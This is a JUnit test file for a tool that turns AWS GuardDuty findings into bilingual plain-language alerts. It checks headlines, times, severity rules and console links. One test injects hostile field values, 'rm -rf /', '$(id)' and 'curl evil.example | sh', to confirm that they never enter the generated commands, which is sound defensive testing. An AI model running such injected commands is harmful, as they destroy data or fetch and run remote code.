package dev.yagura.finding.alert;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import dev.yagura.finding.Finding;
import dev.yagura.finding.FindingReader;
import dev.yagura.finding.FindingReader.Item;
import dev.yagura.finding.Language;
import dev.yagura.finding.Severity;
import dev.yagura.finding.catalogue.Catalogue;
import dev.yagura.finding.sample.Samples;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

/** The rules of alert-example.md, for every type in both languages. */
class FloorTest {
  private static final Catalogue CATALOGUE = Catalogue.load();
  private static final Samples SAMPLES = new Samples(CATALOGUE);
  private static final Floor FLOOR = new Floor(CATALOGUE);

  static Finding sample(String type) {
    return ((Item.Accepted) FindingReader.read("sample", SAMPLES.event(type)).getFirst()).finding();
  }

  static Finding finding(String json) {
    try {
      JsonNode tree = new ObjectMapper().readTree(json);
      return ((Item.Accepted) FindingReader.read("test", tree).getFirst()).finding();
    } catch (JsonProcessingException broken) {
      throw new IllegalArgumentException(broken);
    }
  }

  static Alert alert(Finding finding, Language language) {
    return FLOOR.write(finding, language, language.defaultZone(), "");
  }

  @Test
  void every_type_of_the_catalogue_is_explained_in_both_languages() {
    List<String> lacking = new ArrayList<>();
    for (String type : CATALOGUE.typeNames()) {
      for (Language language : Language.values()) {
        Alert alert = alert(sample(type), language);
        String text = new AlertText(100, false).write(alert);
        boolean complete =
            alert.steps().size() >= 3
                && alert.steps().size() <= 4
                && !alert.why().isBlank()
                && !alert.harmless().isBlank()
                && !alert.query().isBlank()
                && text.contains("123456789012")
                && text.contains("ap-northeast-1")
                && !text.contains("null")
                && !text.matches("(?s).*\\{[a-z_]+}.*");
        if (!complete) {
          lacking.add(type + " " + language + "\n" + text);
        }
      }
    }
    assertThat(lacking).isEmpty();
    assertThat(CATALOGUE.typeNames()).hasSizeGreaterThanOrEqualTo(250);
  }

  @Test
  void the_first_line_is_enough_and_says_that_it_is_a_sample() {
    Alert alert = alert(sample("Trojan:EC2/DGADomainRequest.C!DNS"), Language.EN);
    assertThat(Span.plain(alert.headline()))
        .isEqualTo(
            "[SAMPLE] High · A server looks up domain names that malware uses to find its"
                + " controller — EC2 web-1 i-0a1b2c3d4e5f60718");
    Alert ja = alert(sample("Trojan:EC2/DGADomainRequest.C!DNS"), Language.JA);
    assertThat(Span.plain(ja.headline()))
        .startsWith("【サンプル】重要度 高 · サーバーが、マルウェアの指令サーバー探しに使われるドメインを名前解決しました");
  }

  @Test
  void facts_are_told_in_sentences_and_what_is_missing_is_said_to_be_unknown() {
    String told =
        Span.plain(alert(sample("Trojan:EC2/DGADomainRequest.C!DNS"), Language.EN).happened());
    assertThat(told)
        .startsWith(
            "In account 123456789012, ap-northeast-1, the EC2 instance i-0a1b2c3d4e5f60718 (named"
                + " web-1, private 10.0.1.23, public 203.0.113.10, running, m5.large")
        .contains("asked DNS for update[.]example-c2[.]test. The request was not blocked.")
        .contains("Which process asked is not in the finding.")
        .contains("Seen 2 times: first 2026-11-20 01:10:08 UTC, last 01:25:23 UTC.");
    String bare =
        Span.plain(
            alert(finding("{\"type\":\"Trojan:EC2/DropPoint\",\"severity\":5}"), Language.EN)
                .happened());
    assertThat(bare)
        .contains("In an account that the finding does not name")
        .contains("a resource that the finding does not name")
        .contains("when is not in the finding");
  }

  @Test
  void times_are_in_the_readers_zone() {
    String told = Span.plain(alert(sample("Trojan:EC2/DropPoint"), Language.JA).happened());
    assertThat(told).contains("初回は 2026-11-20 10:10:08、最終は 10:25:23（いずれも日本時間）");
  }

  @Test
  void a_brute_force_means_something_else_when_our_machine_is_the_one_that_does_it() {
    String target =
        "{\"type\":\"UnauthorizedAccess:EC2/SSHBruteForce\",\"severity\":2,\"service\":{\"resourceRole\":\"TARGET\"}}";
    assertThat(alert(finding(target), Language.EN).why()).contains("scanned all day");
    assertThat(alert(finding(target.replace("TARGET", "ACTOR")), Language.EN).why())
        .contains("Your server is attacking others");
    assertThat(
            Span.plain(alert(finding(target.replace("TARGET", "ACTOR")), Language.EN).headline()))
        .contains("A server of yours is guessing passwords on other machines");
  }

  @Test
  void severity_comes_from_the_number_and_a_model_may_only_raise_it() {
    Finding medium = finding("{\"type\":\"Trojan:EC2/DropPoint\",\"severity\":5}");
    assertThat(alert(medium, Language.EN).severity()).isEqualTo(Severity.MEDIUM);
    Alert lowered =
        FLOOR.write(medium, Language.EN, Language.EN.defaultZone(), "", "all fine", Severity.LOW);
    assertThat(lowered.severity()).isEqualTo(Severity.MEDIUM);
    assertThat(lowered.source()).isEqualTo(Alert.Source.MODEL);
    Alert raised =
        FLOOR.write(medium, Language.EN, Language.EN.defaultZone(), "", "bad", Severity.CRITICAL);
    assertThat(raised.severity()).isEqualTo(Severity.CRITICAL);
    assertThat(Severity.of(1.0)).isEqualTo(Severity.LOW);
    assertThat(Severity.of(3.9)).isEqualTo(Severity.LOW);
    assertThat(Severity.of(4.0)).isEqualTo(Severity.MEDIUM);
    assertThat(Severity.of(8.9)).isEqualTo(Severity.HIGH);
    assertThat(Severity.of(9.0)).isEqualTo(Severity.CRITICAL);
    assertThat(Severity.of(null)).isEqualTo(Severity.UNKNOWN);
  }

  @Test
  void a_type_that_nobody_knows_yet_is_still_explained() {
    Alert alert =
        alert(
            finding(
                "{\"type\":\"Brandnew:Quantum/Thing\",\"severity\":8,\"description\":\"Something"
                    + " odd.\"}"),
            Language.EN);
    assertThat(Span.plain(alert.headline())).contains("new to this catalogue");
    assertThat(Span.plain(alert.happened())).contains("Something odd.");
    assertThat(Span.plain(alert.sources())).contains("this type is not in it yet");
    assertThat(alert.steps()).hasSizeGreaterThanOrEqualTo(3);
  }

  @Test
  void only_values_of_the_right_form_enter_a_command() {
    String evil =
        """
        {"type":"Backdoor:EC2/Spambot","severity":5,"region":"us-east-1; rm -rf /","id":"$(id)",
         "resource":{"resourceType":"Instance","instanceDetails":{"instanceId":"i-1; curl evil.example | sh"}},
         "service":{"resourceRole":"ACTOR"}}
        """;
    Alert alert = alert(finding(evil), Language.EN);
    String commands =
        alert.steps().stream().flatMap(step -> step.commands().stream()).toList().toString();
    assertThat(commands)
        .contains("--region REGION", "INSTANCE_ID")
        .doesNotContain("rm -rf", "evil", "$(id)");
    assertThat(alert.links()).isEmpty();
  }

  @Test
  void the_link_leads_into_the_console_of_the_partition() {
    String json =
        "{\"type\":\"A:B/C\",\"severity\":5,\"id\":\"eab59ed2edadbbeec48f69680ca4e979\",\"region\":\"%s\",\"partition\":\"%s\"}";
    assertThat(
            alert(finding(json.formatted("eu-west-1", "aws")), Language.EN)
                .links()
                .getFirst()
                .url())
        .isEqualTo(
            "https://eu-west-1.console.aws.amazon.com/guardduty/home?region=eu-west-1#/findings?macros=current&fId=eab59ed2edadbbeec48f69680ca4e979");
    assertThat(
            alert(finding(json.formatted("cn-north-1", "aws-cn")), Language.EN)
                .links()
                .getFirst()
                .url())
        .startsWith("https://console.amazonaws.cn/");
    assertThat(
            alert(finding(json.formatted("us-gov-west-1", "aws-us-gov")), Language.EN)
                .links()
                .getFirst()
                .url())
        .startsWith("https://console.amazonaws-us-gov.com/");
  }
}
